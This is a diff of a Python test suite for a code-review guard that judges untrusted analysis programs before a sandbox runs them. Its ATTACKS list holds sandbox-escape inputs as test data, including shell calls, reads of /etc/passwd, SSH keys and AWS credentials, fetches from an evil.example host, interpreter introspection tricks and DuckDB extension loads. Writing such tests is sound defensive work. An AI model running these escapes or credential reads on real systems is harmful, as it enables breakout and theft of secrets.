@@ -8,9 +8,10 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from daytwo.executor.guard import RULES_VERSION, review, review_file
-from daytwo.executor.guard.lint import lint
+from daytwo.executor.guard import RULES_VERSION, Guard, Reviewed, review_file, shipped_policy
+from daytwo.executor.guard.review import review
 from daytwo.wire.errors import Invalid, Missing
+from daytwo.wire.sheet import Level, SchemaSheet, TableSheet
 from daytwo.wire.verdict import Ruling, Severity
 
 ENVIRONMENT = (
@@ -20,8 +21,22 @@ ENVIRONMENT = (
 DATASETS = ("orders", "items")
 
 
+POLICY = shipped_policy().without_packages()
+
+
+def sheet(name: str) -> SchemaSheet:
+    table = TableSheet(name=name, columns=())  # of which nothing is known but the name
+    return SchemaSheet(org_id="local", dataset=name, version=1, level=Level.SHAPE, format="csv", tables=(table,))
+
+
 def ruling(program: str, known_names=(), datasets=DATASETS):
-    return review(program, known_names=known_names, environment_imports=ENVIRONMENT, datasets=datasets)
+    reviewed = Reviewed(
+        program=program,
+        known_names=known_names,
+        environment_imports=ENVIRONMENT,
+        sheets=tuple(sheet(name) for name in datasets),
+    )
+    return review(reviewed, POLICY)
 
 
 ORDINARY = [
@@ -120,122 +135,119 @@ def test_ordinary_analysis_is_allowed(program):
 
 
 ATTACKS = [
-    ("import subprocess", "import-process"),
-    ("import os\nos.system('id')", "member-not-allowed"),
-    ("import os as o\nx = o\ny = x\ny.popen('id')", "member-not-allowed"),
-    ("from os import system as s\ns('id')", "member-not-allowed"),
-    ("from os import *", "star-import"),
+    ("import subprocess", "process"),
+    ("import os\nos.system('id')", "process"),
+    ("import os as o\nx = o\ny = x\ny.popen('id')", "process"),
+    ("from os import system as s\ns('id')", "process"),
+    ("from os import *", "unresolved"),
     ("import os\nprint(os.environ)", "environment"),
     ("import os\nos.getenv('A')", "environment"),
     ("from os import environ", "environment"),
-    ("import os\ngetattr(os, 'system')('id')", "member-not-allowed"),
-    ("import os\nname = 'sys' + 'tem'\ngetattr(os, name)('id')", "module-as-value"),
-    ("import os\n[os][0].system('id')", "module-as-value"),
-    ("import os\ndef f(o=os):\n    o.remove('x')", "member-not-allowed"),
-    ("import os\nfor m in (os,):\n    m.remove('x')", "member-not-allowed"),
-    ("import os\n(m := os).remove('x')", "member-not-allowed"),
-    ("import os, re\nm = os if True else re\nm.remove('x')", "member-not-allowed"),
-    ("import socket", "import-network"),
-    ("import urllib.request", "import-network"),
-    ("from urllib import request", "import-network"),
-    ("import urllib\nurllib.request.urlopen('http://x')", "member-network"),
-    ("import httpx2", "import-network"),
-    ("import requests", "import-network"),
-    ("import fastapi", "import-network"),
-    ("import ctypes", "import-native"),
-    ("from numpy import ctypeslib", "import-native"),
-    ("import multiprocessing as mp", "import-process"),
-    ("import threading", "import-process"),
-    ("import asyncio", "import-process"),
-    ("import signal", "import-process"),
-    ("import importlib\nimportlib.import_module('os')", "import-introspection"),
-    ("import builtins\nbuiltins.exec('1')", "import-introspection"),
-    ("import inspect", "import-introspection"),
-    ("import gc", "import-introspection"),
-    ("import pickle\npickle.loads(b'')", "import-foreign-objects"),
-    ("import cloudpickle", "import-foreign-objects"),
-    ("import marshal", "import-foreign-objects"),
-    ("import pandas as pd\npd.read_pickle('x')", "member-not-allowed"),
-    ("import joblib\njoblib.load('x')", "package-missing"),
-    ("import code", "import-introspection"),
-    ("import pty", "import-process"),
-    ("import getpass", "import-credentials"),
-    ("import _socket", "module-not-allowed"),
-    ("import shutil", "import-files"),
-    ("import torch", "package-missing"),
-    ("import panda", "package-missing"),
+    ("import os\ngetattr(os, 'system')('id')", "process"),
+    ("import os\nname = 'sys' + 'tem'\ngetattr(os, name)('id')", "process"),
+    ("import os\n[os][0].system('id')", "process"),
+    ("import os\ndef f(o=os):\n    o.remove('x')", "destructive"),
+    ("import os\nfor m in (os,):\n    m.remove('x')", "destructive"),
+    ("import os\n(m := os).remove('x')", "destructive"),
+    ("import os, re\nm = os if True else re\nm.remove('x')", "destructive"),
+    ("import socket", "network"),
+    ("import urllib.request", "network"),
+    ("from urllib import request", "network"),
+    ("import urllib\nurllib.request.urlopen('http://x')", "network"),
+    ("import httpx2", "network"),
+    ("import requests", "network"),
+    ("import fastapi", "network"),
+    ("import ctypes", "native"),
+    ("from numpy import ctypeslib", "native"),
+    ("import multiprocessing as mp\nmp.Process(target=print).start()", "process"),
+    ("import threading\nthreading.settrace(print)", "interpreter"),
+    ("import asyncio\nasyncio.create_subprocess_shell('id')", "process"),
+    ("import signal\nsignal.signal(2, signal.SIG_IGN)", "process"),
+    ("import importlib\nimportlib.import_module('os')", "code"),
+    ("import builtins\nbuiltins.exec('1')", "code"),
+    ("import inspect\ninspect.currentframe()", "interpreter"),
+    ("import gc\ngc.get_objects()", "interpreter"),
+    ("import pickle\npickle.loads(b'')", "deserialise"),
+    ("import cloudpickle\ncloudpickle.loads(b'')", "deserialise"),
+    ("import marshal", "deserialise"),
+    ("import pandas as pd\npd.read_pickle('x')", "deserialise"),
+    ("import joblib\njoblib.load('x')", "package-refused"),
+    ("import code", "code"),
+    ("import pty", "process"),
+    ("import getpass", "credentials"),
+    ("import _socket", "network"),
+    ("import shutil\nshutil.rmtree('x')", "destructive"),
+    ("import torch", "package-refused"),
+    ("import panda", "package-typo"),
     ("from . import x", "relative-import"),
-    ("import oddlib", "module-unreviewed"),
-    ("eval('1')", "builtin-not-allowed"),
-    ("e = exec\ne('1')", "builtin-not-allowed"),
-    ("exec(compile('1', 'x', 'exec'))", "builtin-not-allowed"),
-    ("__import__('os')", "builtin-not-allowed"),
-    ("def f(g=eval):\n    return g('1')", "builtin-not-allowed"),
-    ("def f():\n    eval = 1\neval('1')", "builtin-not-allowed"),
-    ("class A:\n    eval = 1\n    def f(self):\n        return eval('1')", "builtin-not-allowed"),
-    ("if False:\n    eval = 1\neval('1')", "builtin-not-allowed"),
-    ("eval = 1\ndel eval\neval('1')", "builtin-not-allowed"),
-    ("ｅｖａｌ('1')", "builtin-not-allowed"),
-    ("globals()['x'] = 1", "builtin-not-allowed"),
-    ("vars(sql)", "builtin-not-allowed"),
-    ("breakpoint()", "builtin-not-allowed"),
-    ("x = input('?')", "builtin-not-allowed"),
-    ("__builtins__['eval']('1')", "builtin-not-allowed"),
-    ("().__class__.__bases__[0].__subclasses__()", "attribute-not-allowed"),
-    ("(lambda: 0).__globals__", "attribute-not-allowed"),
-    ("(lambda: 0).__code__.co_consts", "attribute-not-allowed"),
-    ("getattr((), '__class__')", "attribute-not-allowed"),
-    ("try:\n    1 / 0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_globals", "attribute-not-allowed"),
-    ("def g():\n    yield\ng().gi_frame.f_builtins", "attribute-not-allowed"),
-    ("import sys\nsys._getframe()", "attribute-not-allowed"),
-    ("import sys\nsys.modules['os']", "member-not-allowed"),
-    ("say('{0.__class__.__init__.__globals__}'.format(say))", "hidden-attribute"),
-    ("import operator\noperator.attrgetter('__class__.__mro__')(1)", "hidden-attribute"),
-    ("import pandas as pd\npd.io.common.os.system('id')", "member-introspection"),
-    ("import matplotlib\nmatplotlib.os.remove('x')", "member-not-allowed"),
-    ("df = data('orders').pandas()\ndf.query('@pd.io.common.os.system(\"id\")')", "query-expression"),
-    ("df = data('orders').pandas()\ndf.query(\"@df.__class__\")", "query-expression"),
-    ("class E:\n    def __reduce__(self):\n        return (print, ())", "hook-not-allowed"),
-    ("a = 'x'\nb = 'up' + 'per'\ngetattr(a, b)()", "dynamic-attribute"),
-    ("open('/etc/passwd').read()", "path-outside"),
-    ("open('../../etc/passwd').read()", "path-outside"),
-    ("open(workspace / '../x')", "path-outside"),
-    ("p = workspace / '..' / 'x'\np.read_text()", "path-outside"),
-    ("open('~/.ssh/id_rsa')", "path-outside"),
-    ("from pathlib import Path\nPath('/root/.aws/credentials').read_text()", "path-outside"),
-    ("from pathlib import Path\nPath.home()\nPath('/') / 'etc'", "path-outside"),
-    ("name = '/etc/' + 'passwd'\nopen(name)", "path-outside"),
-    ("import pandas as pd\npd.read_csv('/proc/self/environ')", "path-outside"),
-    ("import pandas as pd\npd.read_csv('/dataset/x')", "path-outside"),
-    ("import pandas as pd\npd.read_csv('https://evil.example/x.csv')", "network-address"),
-    ("import pandas as pd\nu = 's3://bucket/x'\npd.read_parquet(u)", "network-address"),
-    ("import polars as pl\npl.scan_parquet(['http://x/y.parquet'])", "network-address"),
-    ("import pandas as pd\nx = 1\npd.DataFrame().to_csv(f'ftp://h/{x}')", "network-address"),
-    ("for name in data('orders').pandas().columns:\n    open(name)", "dynamic-path"),
-    ("import io\nio.open('x')", "member-not-allowed"),
-    ("sql(\"copy orders to 'x.csv'\")", "sql-statement"),
-    ("sql(\"select 1; attach 'x.db'\")", "sql-statement"),
-    ("sql('/* hi */ install httpfs')", "sql-statement"),
-    ("sql('LOAD httpfs')", "sql-statement"),
-    ("sql('pragma version')", "sql-statement"),
-    ("sql('set enable_external_access = true')", "sql-statement"),
-    ("sql(\"explain analyze copy orders to 'x'\")", "sql-statement"),
-    ("sql('create or replace secret s (type s3)')", "sql-statement"),
-    ("import duckdb\nduckdb.connect().execute(\"export database 'x'\")", "sql-statement"),
-    ("run = sql\nrun('load httpfs')", "sql-statement"),
+    ("import oddlib", "unreviewed"),
+    ("eval('1')", "code"),
+    ("e = exec\ne('1')", "code"),
+    ("exec(compile('1', 'x', 'exec'))", "code"),
+    ("__import__('os')", "code"),
+    ("def f(g=eval):\n    return g('1')", "code"),
+    ("def f():\n    eval = 1\neval('1')", "code"),
+    ("class A:\n    eval = 1\n    def f(self):\n        return eval('1')", "code"),
+    ("if False:\n    eval = 1\neval('1')", "code"),
+    ("eval = 1\ndel eval\neval('1')", "code"),
+    ("ｅｖａｌ('1')", "code"),
+    ("globals()['x'] = 1", "monkeypatch"),
+    ("breakpoint()", "reflection"),
+    ("x = input('?')", "reflection"),
+    ("__builtins__['eval']('1')", "interpreter"),
+    ("().__class__.__bases__[0].__subclasses__()", "interpreter"),
+    ("(lambda: 0).__globals__", "interpreter"),
+    ("(lambda: 0).__code__.co_consts", "interpreter"),
+    ("getattr((), '__base__')", "interpreter"),
+    ("try:\n    1 / 0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_globals", "interpreter"),
+    ("def g():\n    yield\ng().gi_frame.f_builtins", "interpreter"),
+    ("import sys\nsys._getframe()", "interpreter"),
+    ("import sys\nsys.modules['os']", "interpreter"),
+    ("say('{0.__class__.__init__.__globals__}'.format(say))", "interpreter"),
+    ("import operator\noperator.attrgetter('__class__.__mro__')(1)", "interpreter"),
+    ("import pandas as pd\npd.io.common.os.system('id')", "interpreter"),
+    ("import matplotlib\nmatplotlib.os.remove('x')", "destructive"),
+    ("df = data('orders').pandas()\ndf.query('@pd.io.common.os.system(\"id\")')", "code"),
+    ("df = data('orders').pandas()\ndf.query(\"@df.__class__\")", "code"),
+    ("class E:\n    def __reduce__(self):\n        return (print, ())", "persistence"),
+    ("getattr(sql, data('orders').columns[0])()", "unresolved"),
+    ("open('/etc/passwd').read()", "files"),
+    ("open('../../etc/passwd').read()", "files"),
+    ("open(workspace / '../x')", "files"),
+    ("p = workspace / '..' / 'x'\np.read_text()", "files"),
+    ("open('~/.ssh/id_rsa')", "files"),
+    ("from pathlib import Path\nPath('/root/.aws/credentials').read_text()", "files"),
+    ("from pathlib import Path\nPath.home()\nPath('/') / 'etc'", "files"),
+    ("name = '/etc/' + 'passwd'\nopen(name)", "files"),
+    ("import pandas as pd\npd.read_csv('/proc/self/environ')", "files"),
+    ("import pandas as pd\npd.read_csv('/dataset/x')", "files"),
+    ("import pandas as pd\npd.read_csv('https://evil.example/x.csv')", "network"),
+    ("import pandas as pd\nu = 's3://bucket/x'\npd.read_parquet(u)", "network"),
+    ("import polars as pl\npl.scan_parquet(['http://x/y.parquet'])", "network"),
+    ("import pandas as pd\nx = 1\npd.DataFrame().to_csv(f'ftp://h/{x}')", "network"),
+    ("for name in data('orders').pandas().columns:\n    open(name)", "file-unknown"),
+    ("import io\nio.open('/x')", "files"),
+    ("sql(\"copy orders to 'x.csv'\")", "sql-write"),
+    ("sql(\"select 1; attach 'x.db'\")", "sql-attach"),
+    ("sql('/* hi */ install httpfs')", "sql-extension"),
+    ("sql('LOAD httpfs')", "sql-extension"),
+    ("sql('pragma version')", "sql-settings"),
+    ("sql('set enable_external_access = true')", "sql-settings"),
+    ("sql(\"explain analyze copy orders to 'x'\")", "sql-write"),
+    ("sql('create or replace secret s (type s3)')", "sql-settings"),
+    ("import duckdb\nduckdb.connect().execute(\"export database 'x'\")", "sql-write"),
+    ("run = sql\nrun('load httpfs')", "sql-extension"),
     ("show(data('orders').sql(\"select * from read_csv('/etc/passwd')\"))", "sql-file"),
-    ("show(sql(\"select * from '/etc/passwd'\"))", "sql-file"),
+    ("show(sql(\"select * from '/etc/passwd'\"))", "files"),
     ("show(sql('select * from \"x/y.csv\"'))", "sql-file"),
-    ("show(sql(\"select getenv('HOME')\"))", "sql-environment"),
-    ("def run(text):\n    return sql(text)\nrun('x')", "dynamic-sql"),
+    ("show(sql(\"select getenv('HOME')\"))", "environment"),
+    ("def run(text):\n    return sql(text)\nrun(data('orders').columns[0])", "unresolved"),
     ("data('nope')", "unknown-dataset"),
     ("d = data\nd('ordrs')", "unknown-dataset"),
     ("check(True, 'a' + str(1))", "check-label"),
-    ("while True:\n    x = 1", "endless-loop"),
-    ("import plotly.io as pio\npio.renderers.default = 'browser'", "member-not-allowed"),
-    ("from sklearn.datasets import fetch_openml", "member-not-allowed"),
-    ("import types\ntypes.FunctionType", "member-not-allowed"),
-    ("import numpy as np\nnp._core.multiarray", "private-member"),
+    ("while True:\n    x = 1", "resources"),
+    ("from sklearn.datasets import fetch_openml", "network"),
+    ("import types\ntypes.FunctionType", "interpreter"),
     ("show(missing_name)", "undefined-name"),
     ("show(missing_name)  # noqa", "undefined-name"),
     ("# ruff: noqa\nshow(missing_name)", "undefined-name"),
@@ -255,7 +267,7 @@ def test_attacks_do_not_pass_and_are_named(program, rule):
 
 
 def test_a_variable_of_an_earlier_step_that_is_a_module_is_one():
-    assert ruling("os.remove('x')", known_names=("os",)).verdict is Ruling.DENY
+    assert ruling("os.system('x')", known_names=("os",)).verdict is Ruling.DENY
     assert ruling("show(pd.DataFrame())", known_names=("pd",)).verdict is Ruling.ALLOW
     assert ruling("alias.system('id')", known_names=("alias",)).verdict is Ruling.DENY
 
@@ -297,7 +309,7 @@ def test_spans_count_characters_from_one():
 
 
 def test_findings_are_bounded_and_keep_the_worst():
-    program = "\n".join(["import oddlib"] * 300 + ["eval('1')"])
+    program = "\n".join(["input('?')"] * 300 + ["eval('1')"])
     verdict = ruling(program)
     assert len(verdict.findings) == 200
     assert verdict.verdict is Ruling.DENY
@@ -316,16 +328,23 @@ def test_a_flood_of_warnings_hides_no_error():
     assert ruling(program).verdict is Ruling.DENY
 
 
-@pytest.mark.parametrize("pattern", ["@" + "a" * 100_000, "@" + "a." * 50_000, "@a .b " * 20_000, "/*" * 50_000])
+@pytest.mark.parametrize("pattern", ["@" + "a" * 100_000, "@" + "a." * 50_000, "@a .b " * 20_000, "-- a" * 20_000])
 def test_long_texts_are_read_in_linear_time(pattern):
-    assert ruling(f"d = 1\nd.query({pattern!r})\nsql('select 1 ' {pattern!r})").findings == ()
+    findings = ruling(f"d = 1\nd.query({pattern!r})\nsql('select 1 ' {pattern!r})").findings
+    assert {finding.rule for finding in findings} <= {"sql-syntax"}
+
+
+def test_comments_within_comments_are_not_guessed_at():
+    """Databases do not agree where they end."""
+    for text in ("/* /* */ copy orders to 1 -- */", "/*" * 50_000):
+        assert "unresolved" in {finding.rule for finding in ruling(f"sql('{text}')").findings}
 
 
 def test_a_repair_names_the_nearest():
     (finding,) = ruling("data('ordrs')").findings
     assert finding.repair == 'Use data("orders").'
     (finding,) = ruling("import pandsa").findings
-    assert finding.repair == "Use pandas."
+    assert finding.repair == "import pandas"
     (finding,) = ruling("shw(1)").findings
     assert finding.repair == "Did you mean show?"
 
@@ -339,32 +358,28 @@ def test_any_text_gets_the_same_verdict_twice(text):
     assert first.verdict is Ruling.ALLOW or first.findings
 
 
-@pytest.mark.parametrize("script", ["exit 2", "kill -ABRT $$", "echo []; exit 1", "echo nonsense", None])
-def test_a_linter_that_fails_denies(tmp_path, script):
-    linter = tmp_path / "linter"
-    if script is not None:
-        linter.write_text(f"#!/bin/sh\n{script}\n")
-        linter.chmod(0o700)
-    (finding,) = lint("x = 1", (), binary=str(linter))
-    assert (finding.rule, finding.severity) == ("guard-unavailable", Severity.ERROR)
+@pytest.fixture(scope="module")
+def guard():
+    with Guard(POLICY) as one:
+        yield one
 
 
-def test_a_file_is_reviewed_as_the_command_line_prints_it(tmp_path):
+def test_a_file_is_reviewed_as_the_command_line_prints_it(tmp_path, guard):
     path = tmp_path / "a.py"
     path.write_text("\ufeffeval('1')\n", encoding="utf-8")
-    printed = json.loads(review_file(path, environment_imports=ENVIRONMENT).model_dump_json())
+    printed = json.loads(review_file(guard, path, ENVIRONMENT).model_dump_json())
     assert set(printed) == {"path", "verdict", "findings", "ms"}
     assert printed["verdict"] == "deny"
     assert set(printed["findings"][0]) == {
         *("rule", "severity", "line", "column", "end_line", "end_column", "message", "repair"),
     }
     with pytest.raises(Missing):
-        review_file(tmp_path / "none.py", environment_imports=ENVIRONMENT)
+        review_file(guard, tmp_path / "none.py", ENVIRONMENT)
     with pytest.raises(Invalid):
-        review_file(tmp_path, environment_imports=ENVIRONMENT)
+        review_file(guard, tmp_path, ENVIRONMENT)
 
 
-def test_bytes_that_are_no_text_are_denied(tmp_path):
+def test_bytes_that_are_no_text_are_denied(tmp_path, guard):
     path = tmp_path / "a.py"
     path.write_bytes(b"x = '\xff\xfe'\n")
-    assert review_file(path, environment_imports=ENVIRONMENT).verdict is Ruling.DENY
+    assert review_file(guard, path, ENVIRONMENT).verdict is Ruling.DENY
